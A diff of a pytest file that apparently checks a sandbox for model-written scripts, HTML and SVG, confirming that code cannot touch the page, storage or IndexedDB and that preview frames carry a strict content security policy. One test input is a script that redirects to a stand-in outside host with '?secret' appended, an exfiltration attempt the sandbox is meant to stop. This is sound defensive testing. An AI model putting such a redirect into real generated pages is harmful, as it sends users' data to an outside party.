@@ -1,4 +1,4 @@
-"""What a model writes and the page runs or shows: scripts as a tool, HTML and SVG to look at; shut off from all else."""
+"""What a model writes and the page runs or shows: scripts, HTML and SVG, shut off from all else."""
 
 import pytest
 from hands import Voice, say, until_told
@@ -46,7 +46,7 @@ def test_a_script_returns_what_it_prints_and_its_last_value(run, code, result):
         pytest.param("document.body", "document is not defined", id="document"),
         pytest.param("localStorage", "localStorage is not defined", id="storage"),
         pytest.param(
-            "return new Promise((yes, no) => { const r = indexedDB.open('cobali'); r.onerror = () => no(r.error) })",
+            "return new Promise((_, no) => { const r = indexedDB.open('c'); r.onerror = () => no(r.error) })",
             "SecurityError",
             id="conversations",
         ),
@@ -85,7 +85,8 @@ def test_a_block_of_html_or_svg_can_be_looked_at_and_reaches_nothing(make_page, 
         </script>"""
     voice = Voice(page)
     say(page, "Draw")
-    voice.say(content=f"```html\n{page_html}\n```\n\n```svg\n<svg viewBox='0 0 9 9'><text>Drawn</text></svg>\n```\n\n")
+    voice.say(content=f"```html\n{page_html}\n```\n\n")
+    voice.say(content="```svg\n<svg viewBox='0 0 9 9'><text>Drawn</text></svg>\n```\n\n")
     leaves = "<script>location = 'http://other.example/?secret';</script>"
     voice.say(content=f"```html\n{leaves}\n```\n\n```python\nprint(1)\n```\n\nDone.")
     voice.end()
@@ -110,5 +111,5 @@ def test_frames_say_by_their_headers_what_they_may(browser, site):
     page = browser.new_page()
     for name in ("request/sandbox.html", "answer/preview.html"):
         policy = page.goto(f"{site.url}/ui/{name}").headers["content-security-policy"]
-        assert policy.startswith("sandbox allow-scripts; default-src 'none'"), "also where somebody opens it alone"
+        assert policy.startswith("sandbox allow-scripts; default-src 'none'"), "also opened by itself"
     page.close()
